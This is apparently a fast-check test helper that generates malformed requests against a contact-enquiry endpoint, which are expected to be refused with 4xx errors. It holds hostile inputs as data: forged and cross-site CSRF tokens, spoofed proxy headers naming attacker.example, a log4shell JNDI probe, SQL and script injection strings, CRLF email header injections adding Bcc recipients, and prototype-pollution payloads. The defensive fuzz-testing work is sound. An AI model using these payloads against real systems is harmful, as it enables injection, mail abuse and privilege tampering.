// Each case is broken in at least one way the server refuses with a 4xx; its other fields carry
// unicode edge cases and CRLF header-injection attempts.
import fc from "fast-check";
import {
  type EnquiryBody,
  enquiryEndpoint,
  enquiryFields,
  enquiryLimits,
  enquirySchema,
} from "../../common/enquiry.ts";

export type CsrfMode =
  | "valid"
  | "none"
  | "cookie-only"
  | "header-only"
  | "mismatch"
  | "forged"
  | "tampered"
  | "cross-site";

export interface MalformedCase {
  kind: string;
  csrf: CsrfMode;
  /** undefined: no Content-Type header. */
  contentType: string | undefined;
  body: string | Uint8Array;
  target?: string;
  extraHeaders?: Record<string, string>;
}

export const endpointSpellings = [
  enquiryEndpoint.replace("/api/", "/%61pi/"),
  enquiryEndpoint.replace("message", "%6d%65ssage"),
  `/${enquiryEndpoint}`,
  enquiryEndpoint.replace("/api/", "/api//"),
  `http://127.0.0.1${enquiryEndpoint}`,
  `http://attacker.example${enquiryEndpoint.replace("/api/", "/%61pi/")}`,
  enquiryEndpoint.replace("/api/", "/API/"),
  enquiryEndpoint.replace("message", "Message"),
  `${enquiryEndpoint}/`,
  `${enquiryEndpoint}?x=1`,
  enquiryEndpoint.replace("/api/", "/api/./"),
];

export const forgedProxyHeaders: Record<string, string>[] = [
  { "x-forwarded-for": "198.51.100.1, 203.0.113.7" },
  { "x-forwarded-for": "127.0.0.1" },
  { "x-forwarded-for": "::1, 10.0.0.1, 192.168.1.1" },
  { "x-forwarded-for": "not-an-address, 999.1.1.1" },
  { "x-forwarded-host": "attacker.example", "x-forwarded-proto": "https" },
  { forwarded: "for=198.51.100.1;host=attacker.example;proto=https", "x-real-ip": "127.0.0.1" },
];

const tokenless: CsrfMode[] = [
  "none",
  "cookie-only",
  "header-only",
  "mismatch",
  "forged",
  "tampered",
];

export interface CsrfContext {
  token: string;
  otherToken: string;
  cookieName: string;
  headerName: string;
}

export function headersFor(
  c: MalformedCase,
  { token, otherToken, cookieName, headerName }: CsrfContext,
) {
  const headers: Record<string, string> = { ...c.extraHeaders };
  if (c.contentType !== undefined) headers["content-type"] = c.contentType;
  const cookie = (value: string) => {
    headers.cookie = `${cookieName}=${value}`;
  };
  const header = (value: string) => {
    headers[headerName.toLowerCase()] = value;
  };
  switch (c.csrf) {
    case "valid":
      cookie(token);
      header(token);
      break;
    case "none":
      break;
    case "cookie-only":
      cookie(token);
      break;
    case "header-only":
      header(token);
      break;
    case "mismatch":
      cookie(token);
      header(otherToken);
      break;
    case "forged": {
      // The right shape, a signature made without the secret.
      const fake = `${"A".repeat(24)}.${Date.now().toString(36)}.${"B".repeat(43)}`;
      cookie(fake);
      header(fake);
      break;
    }
    case "tampered": {
      const last = token.at(-1) === "A" ? "B" : "A";
      const bad = `${token.slice(0, -1)}${last}`;
      cookie(bad);
      header(bad);
      break;
    }
    case "cross-site":
      cookie(token);
      header(token);
      headers.origin = "https://attacker.example";
      headers["sec-fetch-site"] = "cross-site";
      break;
  }
  return headers;
}

const unicodeEdges = [
  "\ud800",
  "\udfff",
  "a\ud83dz",
  "\ufeffBOM",
  "\u202eevil\u202c",
  "zero\u200bwidth\u200d",
  "e\u0301\u0301\u0301\u0301",
  "\u{1f600}\u{1f469}\u200d\u{1f4bb}",
  "\uffff\ufffe",
  "\u0085next\u2028line\u2029para",
  "Ω≈ç√∫˜µ≤≥÷",
  "𝕋𝕖𝕤𝕥",
  "\u00a0\u3000",
  "%00%0d%0a",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell probe, as attackers send it
  "${jndi:ldap://x}",
  "'); DROP TABLE enquiries;--",
  "<script>alert(1)</script>",
  "=?UTF-8?B?QmNjOiBldmlsQGF0dGFja2VyLmV4YW1wbGU=?=",
];

export const headerInjections = [
  "Hello\r\nBcc: victim@attacker.example",
  "Hello\nBcc: victim@attacker.example",
  "Hello\rCc: victim@attacker.example",
  "Hello\r\nX-Injected: yes",
  "Hello\r\n\r\nInjected body",
  "Hello\r\nContent-Type: text/html\r\n\r\n<b>x</b>",
  "Hello\u2028Bcc: victim@attacker.example",
  "Hello\u0085Bcc: victim@attacker.example",
  "Hello%0d%0aBcc: victim@attacker.example",
  "Hello\r\n.\r\nMAIL FROM:<x@attacker.example>",
];

export const injectedHeaderNames = ["bcc", "cc", "x-injected"];

export const nastyText: fc.Arbitrary<string> = fc.oneof(
  fc.string({ minLength: 1, maxLength: 40 }),
  fc.string({ unit: "binary", minLength: 1, maxLength: 40 }),
  fc.string({ unit: "grapheme", minLength: 1, maxLength: 20 }),
  fc.constantFrom(...unicodeEdges),
  fc.constantFrom(...headerInjections),
  fc
    .tuple(fc.constantFrom(...unicodeEdges), fc.constantFrom(...headerInjections))
    .map(([a, b]) => `${a} ${b}`),
);

const fields = Object.keys(enquirySchema.shape) as (keyof EnquiryBody)[];
type Field = (typeof fields)[number];
type Body = Record<string, unknown>;

const baseEnquiry: fc.Arbitrary<Body> = fc.record({
  name: fc.oneof(fc.constant("Asha Verma"), nastyText),
  email: fc.oneof(fc.constant("asha@example.org"), fc.emailAddress()),
  phone: fc.oneof(fc.constant("+91 98100 00000"), nastyText),
  subject: fc.oneof(fc.constant("Training"), nastyText),
  message: fc.oneof(fc.constant("We would like to talk."), nastyText),
  timestamp: fc.constant("2025-01-31T10:00:00.000Z"),
});

const textField = fc.constantFrom<Field>(...enquiryFields.filter((field) => field !== "email"));
const anyField = fc.constantFrom<Field>(...fields);
const json = "application/json";

const wrongValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.string(), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 5 }), fc.string({ maxLength: 5 }), { maxKeys: 3 }),
  fc.integer({ min: 2, max: 200 }).map((depth) => nest(depth, "x")),
);

function nest(depth: number, leaf: unknown): unknown {
  let value = leaf;
  for (let i = 0; i < depth; i++) value = i % 2 ? { a: value } : [value];
  return value;
}

const bodyOf = (value: unknown) => JSON.stringify(value);

const kinds: Record<string, fc.Arbitrary<MalformedCase>> = {
  csrf: fc
    .tuple(baseEnquiry, fc.constantFrom<CsrfMode>(...tokenless, "cross-site"))
    .map(([body, csrf]) => ({ kind: `csrf-${csrf}`, csrf, contentType: json, body: bodyOf(body) })),
  pathSpelling: fc
    .tuple(
      baseEnquiry,
      fc.constantFrom(...endpointSpellings),
      fc.constantFrom<CsrfMode>(...tokenless, "cross-site"),
    )
    .map(([body, target, csrf]) => ({
      kind: `path-spelling-${csrf}`,
      csrf,
      contentType: json,
      body: bodyOf(body),
      target,
    })),
  forgedProxy: fc
    .tuple(baseEnquiry, fc.constantFrom(...forgedProxyHeaders), fc.constantFrom(...tokenless))
    .map(([body, extraHeaders, csrf]) => ({
      kind: `forged-proxy-headers-${csrf}`,
      csrf,
      contentType: json,
      body: bodyOf(body),
      extraHeaders,
    })),
  truncatedJson: fc
    .tuple(baseEnquiry, fc.double({ min: 0, max: 1, maxExcluded: true, noNaN: true }))
    .map(([body, cut]) => {
      const text = bodyOf(body);
      return {
        kind: "truncated-json",
        csrf: "valid" as const,
        contentType: json,
        body: text.slice(0, Math.floor(cut * text.length)),
      };
    }),
  garbage: fc
    .oneof(
      fc.string({ unit: "binary", maxLength: 200 }),
      fc.uint8Array({ maxLength: 200 }),
      fc.constantFrom("{", "}", "[", '{"name":', "{'name':'x'}", "NaN", "undefined", "{,}"),
    )
    .map((body) => ({ kind: "not-json", csrf: "valid" as const, contentType: json, body })),
  notAnObject: fc
    .oneof(fc.jsonValue().filter((v) => v === null || typeof v !== "object" || Array.isArray(v)))
    .map((value) => ({
      kind: "json-not-an-object",
      csrf: "valid" as const,
      contentType: json,
      body: bodyOf(value),
    })),
  wrongType: fc.tuple(baseEnquiry, anyField, wrongValue).map(([body, field, value]) => ({
    kind: "wrong-type",
    csrf: "valid" as const,
    contentType: json,
    body: bodyOf({ ...body, [field]: value }),
  })),
  missing: fc
    .tuple(baseEnquiry, fc.subarray([...fields], { minLength: 1 }))
    .map(([body, gone]) => ({
      kind: "missing-field",
      csrf: "valid" as const,
      contentType: json,
      body: bodyOf(
        Object.fromEntries(Object.entries(body).filter(([k]) => !gone.includes(k as Field))),
      ),
    })),
  blank: fc
    .tuple(baseEnquiry, anyField, fc.constantFrom("", " ", "\t\r\n", "\u00a0\u3000\u2028", "   "))
    .map(([body, field, value]) => ({
      kind: "blank-field",
      csrf: "valid" as const,
      contentType: json,
      body: bodyOf({ ...body, [field]: value }),
    })),
  nul: fc.tuple(baseEnquiry, textField, nastyText).map(([body, field, text]) => ({
    kind: "nul-character",
    csrf: "valid" as const,
    contentType: json,
    body: bodyOf({ ...body, [field]: `${text}\u0000${text}` }),
  })),
  tooLong: fc.tuple(baseEnquiry, fc.constantFrom<Field>(...enquiryFields)).chain(([body, field]) =>
    fc.integer({ min: 1, max: 2000 }).map((extra) => {
      const limit = enquiryLimits[field as keyof typeof enquiryLimits];
      const value =
        field === "email"
          ? `${"a".repeat(64)}@${"b".repeat(limit - 64 + extra)}.example`
          : "x".repeat(limit + extra);
      return {
        kind: `too-long-${field}`,
        csrf: "valid" as const,
        contentType: json,
        body: bodyOf({ ...body, [field]: value }),
      };
    }),
  ),
  overLimit: fc
    .tuple(baseEnquiry, fc.integer({ min: 65 * 1024, max: 300 * 1024 }))
    .map(([body, size]) => ({
      kind: "body-over-64-KiB",
      csrf: "valid" as const,
      contentType: json,
      body: bodyOf({ ...body, message: "m".repeat(size) }),
    })),
  badEmail: fc
    .tuple(
      baseEnquiry,
      fc.oneof(
        fc.string({ maxLength: 30 }).map((s) => s.replaceAll("@", "")),
        fc.constantFrom(...headerInjections).map((s) => `asha@example.org${s}`),
        fc.constantFrom(...unicodeEdges).map((s) => `${s}@@example.org`),
        fc.constant(`${"a".repeat(65)}@example.org`),
      ),
    )
    .map(([body, email]) => ({
      kind: "bad-email",
      csrf: "valid" as const,
      contentType: json,
      body: bodyOf({ ...body, email }),
    })),
  badTimestamp: fc.tuple(baseEnquiry, nastyText).map(([body, text]) => ({
    kind: "bad-timestamp",
    csrf: "valid" as const,
    contentType: json,
    body: bodyOf({ ...body, timestamp: `not a date ${text}` }),
  })),
  deepNesting: fc
    .tuple(baseEnquiry, fc.integer({ min: 1000, max: 20_000 }), fc.boolean())
    .map(([body, depth, whole]) => ({
      kind: whole ? "deep-nesting-body" : "deep-nesting-field",
      csrf: "valid" as const,
      contentType: json,
      // Brackets only: a 20,000-deep array stays under the body limit.
      body: whole
        ? `${"[".repeat(depth)}${"]".repeat(depth)}`
        : bodyOf({ ...body, name: "__DEEP__" }).replace(
            '"__DEEP__"',
            `${"[".repeat(depth)}${"]".repeat(depth)}`,
          ),
    })),
  protoPollution: fc
    .tuple(baseEnquiry, fc.constantFrom("__proto__", "constructor"))
    .map(([body, key]) => ({
      kind: "prototype-pollution",
      csrf: "valid" as const,
      contentType: json,
      body: bodyOf(body).replace(
        /^\{/,
        key === "__proto__"
          ? '{"__proto__":{"isAdmin":true},'
          : '{"constructor":{"prototype":{"isAdmin":true}},',
      ),
    })),
  wrongContentType: fc
    .tuple(
      baseEnquiry,
      fc.constantFrom(
        undefined,
        "text/plain",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "application/xml",
        "application/jsonx",
        "text/json",
      ),
    )
    .map(([body, contentType]) => ({
      kind: "not-json-content-type",
      csrf: "valid" as const,
      contentType,
      body: bodyOf(body),
    })),
};

export const malformedKinds = Object.keys(kinds);

/** Each path spelling and each forged header set once (random sampling may miss one). */
export function everySpellingAndForgery(): MalformedCase[] {
  const body = bodyOf({
    name: "Asha Verma",
    email: "asha@example.org",
    phone: "+91 98100 00000",
    subject: "Training",
    message: "We would like to talk.",
    timestamp: "2025-01-31T10:00:00.000Z",
  });
  return [
    ...endpointSpellings.flatMap((target) =>
      (["none", "cross-site"] as const).map((csrf) => ({
        kind: `path-spelling-${csrf}`,
        csrf,
        contentType: json,
        body,
        target,
      })),
    ),
    ...forgedProxyHeaders.map((extraHeaders) => ({
      kind: "forged-proxy-headers-none",
      csrf: "none" as const,
      contentType: json,
      body,
      extraHeaders,
    })),
  ];
}

export const malformedEnquiry: fc.Arbitrary<MalformedCase> = fc.oneof(...Object.values(kinds));

export function leaksInternals(body: string): boolean {
  return /\n\s+at .+[:(]|node:internal|\/node_modules\/|\.ts:\d+|"stack"\s*:/.test(body);
}
